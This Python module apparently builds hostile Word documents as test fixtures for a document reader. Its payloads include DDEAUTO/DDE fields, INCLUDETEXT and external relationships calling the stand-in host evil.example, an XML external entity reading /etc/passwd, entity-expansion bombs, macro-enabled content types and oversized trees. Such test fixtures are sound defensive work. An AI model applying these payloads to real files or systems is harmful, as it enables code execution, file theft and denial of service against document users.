"""Reference documents made to harm, one for each kind of part, relationship, element, field and file.

Whatever is to get through bears the mark EVIL; a letter that holds it has been reached.
"""

from __future__ import annotations

import posixpath
import random
from functools import partial
from typing import TYPE_CHECKING

from attacks.letterheads import (
    DOCUMENT,
    FOOTER,
    WORD,
    Parts,
    R,
    office,
    relations,
    write,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

    Change = Callable[[Parts], None]
    Make = Callable[[Path], Path]

URL = "http://evil.example/EVIL"
MACROS = "application/vnd.ms-word."
SHEET = "word/_rels/document.xml.rels"
PARTS = ("footer1", "header1", "styles", "settings", "numbering", "fontTable", "theme/theme1")
STRANGERS = {
    "image": "media/image1.png", "hyperlink": "", "oleObject": "embeddings/o.bin", "package": "embeddings/o.xlsx",
    "aFChunk": "chunk.html", "control": "activeX/activeX1.xml", "subDocument": "sub.docx", "frame": "",
    "vbaProject": "vbaProject.bin", "customXml": "../customXml/item1.xml", "comments": "comments.xml",
    "attachedTemplate": "", "mailMergeSource": "", "mailMergeHeaderSource": "", "mailMergeRecipientData": "r.xml",
    "font": "fonts/font1.odttf", "chart": "charts/chart1.xml", "diagramData": "diagrams/data1.xml",
    "footnotes": "footnotes.xml", "endnotes": "endnotes.xml", "glossaryDocument": "glossary/document.xml",
    "keyMapCustomizations": "customizations.xml", "printerSettings": "printerSettings1.bin", "video": "", "audio": "",
    "transform": "", "webSettings": "webSettings.xml", "people": "people.xml", "extension": "EVIL.bin",
}  # fmt: skip
"""Kinds of relationships, each with what it leads to, or "" where it leads out of the file."""


def add(part: str, xml: str) -> Change:
    """Markup at the end of a part."""

    def change(parts: Parts) -> None:
        text = str(parts[part])
        at = text.rindex("</")
        parts[part] = text[:at] + xml + text[at:]

    return change


def swap(part: str, old: str, new: str) -> Change:
    """One piece of a part in place of another."""

    def change(parts: Parts) -> None:
        text = str(parts[part])
        if old not in text:
            raise ValueError(old)
        parts[part] = text.replace(old, new, 1)

    return change


def all_of(*changes: Change) -> Change:
    """Several changes."""

    def change(parts: Parts) -> None:
        for one in changes:
            one(parts)

    return change


def lead(part: str, kind: str, target: str, key: str = "rEvil") -> Change:
    """A relationship of a part: into the file, where something is put, or out of it for ""."""

    def change(parts: Parts) -> None:
        folder, _, name = part.rpartition("/")
        sheet = f"{folder}/_rels/{name}.rels"
        mode = "" if target else ' TargetMode="External"'
        one = f'<Relationship Id="{key}" Type="{R}/{kind}" Target="{target or URL}"{mode}/>'
        parts.setdefault(sheet, relations(""))
        add(sheet, one)(parts)
        if target:
            parts[posixpath.normpath(f"{folder}/{target}")] = "<EVIL/>"

    return change


def strangers() -> Mapping[str, Change]:
    """Every strange relationship, of the document and of each part that is kept."""
    found = {f"{kind} of the document": lead(DOCUMENT, kind, target) for kind, target in STRANGERS.items()}
    for part in PARTS:
        for kind, target in STRANGERS.items():
            found[f"{kind} of {part}"] = lead(f"word/{part}.xml", kind, target)
    return found


def run_of(inner: str) -> str:
    """A paragraph with one run."""
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def field(instruction: str, result: str = "EVIL") -> str:
    """A complex field."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>{instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


FIELDS = (
    "DDEAUTO c:\\\\EVIL", "DDE cmd EVIL", f"INCLUDETEXT {URL}", f"INCLUDEPICTURE {URL} \\d", "MACROBUTTON EVIL x",
    "AUTOTEXT EVIL", "IMPORT EVIL", "LINK Excel.Sheet EVIL", "EMBED EVIL", "MERGEFIELD EVIL", "DATABASE EVIL",
    "FILENAME \\p EVIL", "DOCPROPERTY EVIL", "DOCVARIABLE EVIL", "QUOTE EVIL", "IF 1 = 1 EVIL x", "GOTOBUTTON EVIL",
    "ASK EVIL", "FILLIN EVIL", "PRINT EVIL", "SET EVIL x", "REF EVIL", "USERNAME EVIL", "RD EVIL", "PAGEREF EVIL",
    "ADDIN EVIL", "HTMLActiveX EVIL", "BARCODE EVIL", "= EVIL", "DATE \\@ EVIL",
)  # fmt: skip


def fields() -> Mapping[str, Change]:
    """Fields that fetch, run, ask or tell, written in each of the two ways, in a footer."""
    found: dict[str, Change] = {}
    for one in FIELDS:
        name = one.split()[0]
        found[f"field {name}"] = add(FOOTER, field(one))
        simple = f'<w:p><w:fldSimple w:instr="{one}"><w:r><w:t>EVIL</w:t></w:r></w:fldSimple></w:p>'
        found[f"simple field {name}"] = add(FOOTER, simple)
    inner = field(f"INCLUDETEXT {URL}").removeprefix("<w:p>").removesuffix("</w:p>")
    found |= {
        "a field in a page number's instruction": add(
            FOOTER, field(f"PAGE </w:instrText></w:r>{inner}<w:r><w:instrText>")
        ),
        "a field behind a page number": add(FOOTER, field(f"PAGE INCLUDETEXT {URL}", "1")),
        "a field that never ends": add(FOOTER, field(f"INCLUDETEXT {URL}").replace('"end"', '"begin"')),
        "a field cut into runs": add(FOOTER, field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO EVIL")),
        "a link as a field": add(FOOTER, field(f'HYPERLINK "{URL}"', "网站")),
        "a field of the past": add(FOOTER, "<w:p><w:r><w:pgNum/><w:delInstrText>EVIL</w:delInstrText></w:r></w:p>"),
    }
    return found


LAUGHS = '<!DOCTYPE x [<!ENTITY a "EVIL"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
READ = (
    "[Content_Types].xml",
    "_rels/.rels",
    DOCUMENT,
    SHEET,
    *(f"word/{part}.xml" for part in PARTS if part != "numbering"),
)
"""The parts that are read; numbers of headings are not, since letters number themselves."""


def refused_parts() -> Mapping[str, Change]:
    """What no letter is written with: document types, in each part; trees too deep or too large."""

    def typed(part: str, doctype: str, code: str, parts: Parts) -> None:
        parts[part] = (doctype + str(parts[part])).encode(code)

    found: dict[str, Change] = {f"entities in {part}": partial(typed, part, LAUGHS, "utf-8") for part in READ}
    file = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    outside = f'<!DOCTYPE x SYSTEM "{URL}">'
    deep = f"<w:p>{'<w:ins>' * 5_000}{'</w:ins>' * 5_000}</w:p>"
    return {
        **found,
        "a file as an entity": all_of(add(FOOTER, run_of("<w:t>&x;</w:t>")), partial(typed, FOOTER, file, "utf-8")),
        "a document type from elsewhere": partial(typed, FOOTER, outside, "utf-8"),
        "entities in UTF-16": partial(typed, "word/styles.xml", LAUGHS, "utf-16"),
        "a tree without an end": add(FOOTER, deep),
        "a million elements": add(FOOTER, "<w:p/>" * 400_000),
        "a part of ten megabytes": add(FOOTER, run_of(f"<w:t>{'x' * 10_000_000}</w:t>")),
        "nine megabytes of noise": add(FOOTER, run_of(f"<w:t>{random.Random(1).randbytes(4_500_000).hex()}</w:t>")),
        "macros": swap("[Content_Types].xml", f"{WORD}document.main", f"{MACROS}document.macroEnabled.main"),
        "no document": swap("[Content_Types].xml", f"{WORD}document.main+xml", "text/plain"),
        "a part cut short": swap(FOOTER, "</w:ftr>", ""),
    }  # fmt: skip


def packaged(change: Change, folder: Path) -> Path:
    """The office's document with a change."""
    parts = office()
    change(parts)
    return write(parts, folder / "hostile.docx")
